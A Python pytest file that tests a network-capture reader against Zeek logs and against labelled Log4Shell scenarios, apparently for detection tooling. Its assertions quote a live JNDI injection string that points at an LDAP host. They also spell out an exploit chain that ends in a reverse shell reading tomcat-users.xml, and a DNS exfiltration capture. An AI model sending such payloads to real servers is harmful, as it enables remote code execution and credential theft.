"""Captures against what other programs say of them: Zeek's conn and http logs, and the facts of the scenarios.

Two habits of Zeek's http.log are undone before comparing: its `uri` is percent-decoded, and of the answer to a request
without version it reads no status line, even where there is one, but says 0.
"""

import json
from collections import Counter
from urllib.parse import unquote_to_bytes

import pytest

pytestmark = pytest.mark.conformance

MADE_UP = ("spicy.protocol-analyzer-data-in", "spicy.protocol-analyzer-data-in-from-tcp-to-udp")
"""Tests whose http.log tells of requests that a script injected: no packet holds them."""


def logged(path):
    """Rows of a Zeek log as dictionaries."""
    fields = []
    for line in path.read_text("utf-8", "replace").splitlines():
        if line.startswith("#fields"):
            fields = line.split("\t")[1:]
        elif line and not line.startswith("#"):
            yield dict(zip(fields, line.split("\t"), strict=False))


def cases(shared_data, name):
    base = shared_data / "telemetry/zeek"
    for case in json.loads((base / "index.json").read_text()):
        logs = [base / log for log in case["expected"] if log.endswith(f"/{name}") and (base / log).exists()]
        if logs and case["test"] not in MADE_UP:
            yield case["test"], base / case["pcap"], logs


def ends(row):
    return row["client_ip"], row["client_port"], row["server_ip"], row["server_port"]


def logged_ends(row):
    return row["id.orig_h"], int(row["id.orig_p"]), row["id.resp_h"], int(row["id.resp_p"])


def test_the_flows_of_zeek_s_conn_logs_are_found(shared_data, read):
    figures, missing = Counter(), []
    for test, path, logs in cases(shared_data, "conn.log"):
        rows = read(path)[0]
        for log in logs:
            for want in logged(log):
                if not {"id.orig_h", "id.resp_p", "conn_state"} <= set(want) or want["proto"] not in (
                    "tcp",
                    "udp",
                ):
                    continue
                here = [
                    row
                    for row in rows
                    if row["transport"] == want["proto"]
                    and ends(row) in (logged_ends(want), logged_ends(want)[2:] + logged_ends(want)[:2])
                ]
                figures["flows"] += 1
                figures["found"] += bool(here)
                missing += [] if here else [(test, logged_ends(want))]
                figures["client"] += any(ends(row) == logged_ends(want) for row in here)
                figures["state"] += any(row["state"] == want["conn_state"] for row in here)
                if want.get("orig_bytes", "-") != "-" and here and not any(row["method"] for row in here):
                    figures["counted"] += 1
                    figures["bytes"] += any(
                        (str(row["bytes_in"]), str(row["bytes_out"]))
                        == (want["orig_bytes"], want["resp_bytes"])
                        for row in here
                    )
    assert figures["found"] >= 0.99 * figures["flows"], (figures, missing)
    assert figures["client"] >= 0.95 * figures["flows"], figures
    assert figures["state"] >= 0.9 * figures["flows"], figures
    assert figures["bytes"] >= 0.95 * figures["counted"], figures


def test_the_requests_of_zeek_s_http_logs_are_found(shared_data, read):
    figures, missing = Counter(), []
    for test, path, logs in cases(shared_data, "http.log"):
        told = [row for row in read(path)[0] if row["method"]]
        for log in logs:
            left = list(told)
            for want in logged(log):
                if want.get("method", "-") == "-" or not {"uri", "status_code", "response_body_len"} <= set(
                    want
                ):
                    continue
                here = [row for row in left if is_the_same(row, want)]
                exact = [
                    row
                    for row in here
                    if lengths(row) == (want["request_body_len"], want["response_body_len"])
                ]
                figures["requests"] += 1
                figures["found"] += bool(here)
                if want["status_code"] != "0":
                    figures["answered"] += 1
                    figures["lengths"] += bool(exact)
                missing += [] if here else [(test, want["method"], want["uri"], want["status_code"])]
                for row in (exact or here)[:1]:
                    left.remove(row)
    assert figures["found"] >= 0.98 * figures["requests"], (figures, missing)
    assert figures["lengths"] >= 0.95 * figures["answered"], figures


def is_the_same(row, want):
    """Whether a row is the logged request, spelled as Zeek spells it."""
    path = unquote_to_bytes(row["path"]).decode("utf-8", "backslashreplace")
    uri = unquote_to_bytes(want["uri"].replace("(empty)", "")).decode("utf-8", "backslashreplace")
    status = "-" if row["status"] is None else str(row["status"])
    return (row["method"], path) == (want["method"], uri) and want["status_code"] in (status, "0")


def lengths(row):
    return str(row["bytes_in"]), str(row["bytes_out"] or 0)


def test_every_packet_of_third_party_captures_is_accounted_for(shared_data, read):
    captures = [path for path in shared_data.glob("*/**/*.pcap*") if path.is_file()]
    assert captures
    for path in captures:
        rows, account = read(path)
        assert account.connections == len(rows)
        assert account.rejected == account.reasons.total()
        if not rows:
            assert account.lines == account.ignored + account.rejected, path


def test_the_attempt_of_scenario_1_is_one_request(shared_data, read):
    (row,), _ = read(shared_data / "scenarios/S1_log4shell_attempt/attempt.pcap")
    assert (row["client_ip"], row["method"], row["path"], row["status"]) == ("154.65.28.250", "GET", "/", 200)
    assert (row["bytes_in"], row["bytes_out"], row["host"]) == (0, 550, "24.14.233.177")
    assert "Authorization: Bearer ${jndi:ldap://45.83.193.150:1389/Exploit}" in row["headers"]


def test_the_chain_of_scenario_2_is_seen_whole(shared_data, read):
    rows, account = read(shared_data / "scenarios/S2_log4shell_full_chain/chain.pcap")
    assert account.rejected == 0
    chain = [
        (row["client_ip"], row["server_ip"], row["server_port"], row["protocol"], row["path"]) for row in rows
    ]
    assert sorted(chain, key=str) == sorted(
        [
            ("10.10.10.31", "172.16.238.10", 8080, "http", "/log4shell/"),
            ("172.16.238.10", "172.16.238.11", 1389, "ldap", None),
            ("172.16.238.10", "172.16.238.11", 80, "http", "/Exploit.class"),
            ("172.16.238.10", "10.10.10.31", 9001, None, None),
        ],
        key=str,
    )
    shell = next(row for row in rows if row["server_port"] == 9001)
    assert "tomcat-users.xml" in shell["response"]
    assert "<?xml" in shell["body"]


def test_the_exfiltration_by_dns_names_what_was_taken(shared_data, read):
    rows, _ = read(shared_data / "telemetry/log4shell_corelight/Traces__log4j-dns_exfil.pcap")
    assert {row["host"] for row in rows if row["protocol"] == "dns"} == {"1qaz2wsx"}
